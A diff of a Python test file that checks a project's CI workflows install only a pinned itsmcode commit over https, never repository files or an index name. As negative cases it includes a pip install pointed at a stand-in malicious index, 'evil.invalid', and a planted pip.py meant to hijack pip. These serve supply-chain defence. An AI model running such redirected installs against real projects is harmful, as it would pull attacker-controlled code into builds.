@@ -3,10 +3,12 @@
 What can be tested offline of policy.md's property 8 (docs/security.md has the threat
 model): actionlint (with shellcheck on every ``run:`` script) and zizmor report nothing;
 every job declares its permissions and only jobs that run no Python hold a write token;
-no event data is expanded inside a script; actions are pinned to full commit SHAs; the
-approval gate runs the base branch's definition, never checks out the pull request and
-reads the policy from the base. The gate's and the record's scripts run for real (bash,
-git, the real ``itsm``, a fake ``gh`` answering from canned API responses): a pull request
+no event data is expanded inside a script; actions are pinned to full commit SHAs; every
+install is of the itsmcode commit pinned in the workflow's env, never of the checkout or
+a package index name (issue 16); the approval gate runs the base branch's definition,
+never checks out the pull request and reads the policy from the base. The gate's and the
+record's scripts run for real (bash, git, the real ``itsm``, a fake ``gh`` answering from
+canned API responses): a pull request
 that rewrites the policy, its team and the gate itself is refused, a hostile branch name
 stays data, the notes push survives a concurrent push. And the templates ``itsm init``
 writes are the project's own workflows, byte for byte.
@@ -25,9 +27,17 @@ from typing import Any
 
 import pytest
 import yaml
+from packaging.requirements import Requirement
 
-from itsmcode import __version__
-from itsmcode.workflows import STATUS_CONTEXT_PREFIX, WORKFLOW_DIR, status_context, workflow_files
+from itsmcode.workflows import (
+    STATUS_CONTEXT_PREFIX,
+    WORKFLOW_DIR,
+    pin,
+    status_context,
+    templates,
+    workflow_files,
+)
+from tests.gatepin import GATE, PIN
 from tests.helpers import run_cli
 from tests.policy.prrepo import github_commits
 
@@ -199,10 +209,197 @@ def test_checkouts_never_persist_credentials() -> None:
                     assert s["with"]["persist-credentials"] is False, f"{name}: {job_name}"
 
 
-def test_workflows_install_the_itsmcode_version_that_generated_them() -> None:
+# --- what the workflows install: a pinned commit, never the repository's content -------
+
+#: The pin this project's own workflows carry (and the shipped templates).
+PROJECT_PIN = pin.read((TEMPLATES / "approval.yml").read_text(encoding="utf-8"))
+assert PROJECT_PIN is not None
+INSTALL_STEP = "Install itsm (the pinned source, never this repository's files)"
+PINNED_REQUIREMENT = '"itsmcode @ git+${ITSMCODE_SOURCE}@${ITSMCODE_REF}"'
+SHA = re.compile(r"^[0-9a-f]{40}$")
+
+
+def install_problems(workflow: dict[str, Any]) -> list[str]:
+    """Why a parsed workflow might install something other than the pinned itsmcode.
+
+    Every `pip install` (or `pipx`, `uv`) command must install exactly the pinned
+    requirement, from nothing the job has on disk, and the pin must be a full sha
+    and an https git URL in the workflow's own `env:`.
+    """
+    problems: list[str] = []
+    env = workflow.get("env") or {}
+    installs = 0
+    for job_name, job in workflow["jobs"].items():
+        for s in steps(job):
+            script = s.get("run", "")
+            # One logical line per command: join continuation lines.
+            for command in script.replace("\\\n", " ").splitlines():
+                if not re.search(r"\b(pip3?|pipx|uv|easy_install|setup\.py)\b", command):
+                    continue
+                if re.search(r"\b(pyproject|setup\.py|requirements|constraints)\b", command):
+                    problems.append(f"{job_name}: reads repository files: {command.strip()}")
+                    continue
+                installs += 1
+                words = command.split()
+                if words[:3] != ["python", "-I", "-m"] or words[3:5] != ["pip", "install"]:
+                    problems.append(f"{job_name}: not `python -I -m pip install`: {command}")
+                    continue
+                args = command.split("pip install", 1)[1].split()
+                options = [a for a in args if a.startswith("-")]
+                targets = " ".join(a for a in args if not a.startswith("-"))
+                if set(options) - {"--quiet", "--no-cache-dir"}:
+                    problems.append(f"{job_name}: unexpected pip options {options}")
+                if targets != PINNED_REQUIREMENT:
+                    problems.append(f"{job_name}: installs {targets!r}, not the pinned source")
+    if installs:
+        if not SHA.match(str(env.get("ITSMCODE_REF", ""))):
+            problems.append(f"env ITSMCODE_REF is not a full commit sha: {env.get('ITSMCODE_REF')}")
+        if not str(env.get("ITSMCODE_SOURCE", "")).startswith("https://"):
+            problems.append(
+                f"env ITSMCODE_SOURCE is not an https URL: {env.get('ITSMCODE_SOURCE')}"
+            )
+    return problems
+
+
+def test_no_workflow_installs_from_repository_content_or_an_index_name() -> None:
+    installing = 0
     for name, workflow in every_workflow().items():
-        if "ITSMCODE_VERSION" in (WORKFLOWS / name).read_text(encoding="utf-8"):
-            assert workflow["env"]["ITSMCODE_VERSION"] == __version__, name
+        assert install_problems(workflow) == [], name
+        installing += "ITSMCODE_REF" in (workflow.get("env") or {})
+    assert installing == 3  # validate, approval, record; the review trigger installs nothing
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "problem"),
+    [
+        # The old way: the repository's own pyproject.toml decided what ran (issue 16.2).
+        (
+            PINNED_REQUIREMENT,
+            ".",
+            "installs '.'",
+        ),
+        (PINNED_REQUIREMENT, "-e .", "unexpected pip options"),
+        (PINNED_REQUIREMENT, "-r requirements.txt", "reads repository files"),
+        (PINNED_REQUIREMENT, "./src", "installs './src'"),
+        # A name on a package index whoever registers it controls (issue 16.3).
+        (PINNED_REQUIREMENT, '"itsmcode==0.1.0"', "installs '\"itsmcode==0.1.0\"'"),
+        (PINNED_REQUIREMENT, "itsmcode", "installs 'itsmcode'"),
+        (PINNED_REQUIREMENT, '"itsmcode @ git+${ITSMCODE_SOURCE}@main"', "not the pinned source"),
+        (
+            PINNED_REQUIREMENT,
+            PINNED_REQUIREMENT + " --index-url https://evil.invalid/simple",
+            "unexpected pip options",
+        ),
+        # -I left out: a pip.py in the checkout would run instead of pip.
+        ("python -I -m pip install", "python -m pip install", "not `python -I -m pip install`"),
+        # A movable ref or a plain-http source in env.
+        (f"ITSMCODE_REF: {PROJECT_PIN.ref}", "ITSMCODE_REF: main", "not a full commit sha"),
+        (
+            f"ITSMCODE_SOURCE: {PROJECT_PIN.url}",
+            f"ITSMCODE_SOURCE: {PROJECT_PIN.url.replace('https:', 'http:')}",
+            "not an https URL",
+        ),
+    ],
+)
+def test_the_install_check_catches_each_way_back_to_an_unpinned_install(
+    old: str, new: str, problem: str
+) -> None:
+    """The check above can fail: each variation of an unpinned install is caught."""
+    for name in ("validate.yml", "approval.yml", "record.yml"):
+        text = (WORKFLOWS / name).read_text(encoding="utf-8")
+        assert old in text, name
+        raw = yaml.safe_load(text.replace(old, new))
+        workflow = {str(k): v for k, v in raw.items() if k is not True}
+        found = install_problems(workflow)
+        assert any(problem in p for p in found), (name, found)
+
+
+def test_the_install_step_runs_only_the_pinned_requirement(tmp_path: Path) -> None:
+    """Run the real step with a `python` that records its arguments, in a checkout that
+    claims to be itsmcode (pyproject.toml, pip.py): the pinned requirement is installed
+    all the same, and a movable ref stops the job."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    log = tmp_path / "python.log"
+    (bin_dir / "python").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > "{log}"\n', encoding="utf-8")
+    (bin_dir / "python").chmod(0o755)
+    checkout = tmp_path / "checkout"
+    checkout.mkdir()
+    (checkout / "pyproject.toml").write_text('[project]\nname = "itsmcode"\n', encoding="utf-8")
+    (checkout / "pip.py").write_text("raise SystemExit('hijacked')\n", encoding="utf-8")
+    for workflow, job in (
+        ("validate.yml", "lint"),
+        ("approval.yml", "evaluate"),
+        ("record.yml", "decide"),
+    ):
+        env = {k: str(v) for k, v in load(workflow)["env"].items()}
+        script = step(workflow, job, INSTALL_STEP)["run"]
+        run = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", **env}
+        done = subprocess.run(
+            ["bash", "-e", "-c", script],
+            cwd=checkout,
+            env=run,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+        assert log.read_text(encoding="utf-8").splitlines() == [
+            "-I",
+            "-m",
+            "pip",
+            "install",
+            "--quiet",
+            "--no-cache-dir",
+            f"itsmcode @ git+https://github.com/itsmcode/itsmcode@{env['ITSMCODE_REF']}",
+        ], workflow
+        # What pip will parse: PEP 508 reads it as itsmcode from git at that commit.
+        requirement = Requirement(log.read_text(encoding="utf-8").splitlines()[-1])
+        assert requirement.name == "itsmcode"
+        assert requirement.url == f"git+{PROJECT_PIN.url}@{PROJECT_PIN.ref}"
+        log.unlink()
+        for ref in ("main", "v0.1.0", env["ITSMCODE_REF"][:12], ""):
+            moved = subprocess.run(
+                ["bash", "-e", "-c", script],
+                cwd=checkout,
+                env={**run, "ITSMCODE_REF": ref},
+                capture_output=True,
+                text=True,
+                check=False,
+            )
+            assert moved.returncode == 1, (workflow, ref)
+            assert "::error::ITSMCODE_REF must be a full commit sha" in moved.stdout
+            assert not log.exists(), (workflow, ref)
+
+
+def test_init_writes_its_pin_into_every_workflow_and_the_hook(tmp_path: Path) -> None:
+    result = run_cli(["init", str(tmp_path), *PIN])
+    assert result.exit_code == 0, result.output
+    for path in workflow_files(GATE):
+        workflow = yaml.safe_load((tmp_path / path).read_text(encoding="utf-8"))
+        if "env" in workflow and "ITSMCODE_REF" in workflow["env"]:
+            assert workflow["env"]["ITSMCODE_SOURCE"] == GATE.url
+            assert workflow["env"]["ITSMCODE_REF"] == GATE.ref
+            assert install_problems({str(k): v for k, v in workflow.items() if k is not True}) == []
+    # Only the pin differs from the shipped workflows, line for line.
+    for path, text in templates().items():
+        written = (tmp_path / path).read_text(encoding="utf-8").splitlines()
+        shipped = text.splitlines()
+        assert len(written) == len(shipped), path
+        changed = [(a, b) for a, b in zip(shipped, written, strict=True) if a != b]
+        if "approval-review" in path:
+            assert changed == [], path
+        else:
+            assert [b.strip() for _, b in changed] == [
+                f"ITSMCODE_SOURCE: {GATE.url}",
+                f"ITSMCODE_REF: {GATE.ref}",
+            ], path
+    hook = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
+    hooks = [{"id": "itsm-fmt"}, {"id": "itsm-lint"}]
+    assert hook["repos"] == [{"repo": GATE.url, "rev": GATE.ref, "hooks": hooks}]
+    # The hooks it names are the ones this project publishes.
+    published = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
+    assert [h["id"] for h in published] == ["itsm-lint", "itsm-fmt"]
 
 
 # --- the approval gate ------------------------------------------------------------------
@@ -262,9 +459,10 @@ def test_the_gate_reads_the_policy_from_the_base() -> None:
     assert "itsm policy check" in check["run"]
     assert '--base "${BASE_SHA}" --head "${HEAD_SHA}"' in check["run"]
     assert "--format github" in check["run"]
-    # itsm comes from the trusted checkout (or PyPI), never from the pull request.
-    install = step("approval.yml", "evaluate", "Install itsm (from the trusted checkout)")
-    assert "pip install --quiet ." in install["run"]
+    # itsm comes from the pinned source of the base branch's definition, never from the
+    # pull request or the checkout (test_no_workflow_installs_... checks every install).
+    install = step("approval.yml", "evaluate", INSTALL_STEP)
+    assert '"itsmcode @ git+${ITSMCODE_SOURCE}@${ITSMCODE_REF}"' in install["run"]
 
 
 def test_the_gate_token_is_split_by_job() -> None:
@@ -496,27 +694,27 @@ def test_publish_keeps_an_existing_record_and_refuses_a_foreign_one(
 
 def test_the_project_workflows_are_the_templates() -> None:
     """Edit src/itsmcode/workflows/*.yml and copy them to .github/workflows/ (or back)."""
-    templates = workflow_files()
+    shipped = templates()
     on_disk = {
         f"{WORKFLOW_DIR}/{p.name}": p.read_text(encoding="utf-8")
         for p in sorted(WORKFLOWS.glob("*.yml"))
     }
-    assert on_disk.keys() == templates.keys()
-    for path, text in templates.items():
+    assert on_disk.keys() == shipped.keys()
+    for path, text in shipped.items():
         assert on_disk[path] == text, f"{path} differs from src/itsmcode/workflows/"
-    assert {p.name for p in TEMPLATES.glob("*.y*ml")} == {p.rsplit("/", 1)[1] for p in templates}
+    assert {p.name for p in TEMPLATES.glob("*.y*ml")} == {p.rsplit("/", 1)[1] for p in shipped}
 
 
 def test_init_writes_the_workflows(tmp_path: Path) -> None:
-    result = run_cli(["init", str(tmp_path)])
+    result = run_cli(["init", str(tmp_path), *PIN])
     assert result.exit_code == 0, result.output
-    for path, text in workflow_files().items():
+    for path, text in workflow_files(GATE).items():
         assert f"created  {path}" in result.output
         assert (tmp_path / path).read_text(encoding="utf-8") == text
 
 
 def test_init_without_an_approval_policy_writes_only_validate(tmp_path: Path) -> None:
-    result = run_cli(["init", str(tmp_path), "--practices", "catalog,sla"])
+    result = run_cli(["init", str(tmp_path), "--practices", "catalog,sla", *PIN])
     assert result.exit_code == 0, result.output
     written = sorted(p.name for p in (tmp_path / WORKFLOW_DIR).iterdir())
     assert written == ["validate.yml"]
@@ -526,7 +724,7 @@ def test_init_never_overwrites_a_workflow(tmp_path: Path) -> None:
     ours = tmp_path / WORKFLOW_DIR / "validate.yml"
     ours.parent.mkdir(parents=True)
     ours.write_text("name: our own\n", encoding="utf-8")
-    result = run_cli(["init", str(tmp_path)])
+    result = run_cli(["init", str(tmp_path), *PIN])
     assert result.exit_code == 0, result.output
     assert f"skipped  {WORKFLOW_DIR}/validate.yml (already exists)" in result.output
     assert ours.read_text(encoding="utf-8") == "name: our own\n"
@@ -700,7 +898,7 @@ class PullRequestRepo:
         self.tmp = tmp
         self.author = author
         work = tmp / "work"
-        result = run_cli(["init", str(work)])
+        result = run_cli(["init", str(work), *PIN])
         assert result.exit_code == 0, result.output
         self.git("init", "-q", "-b", "main")
         self.git("add", "-A")
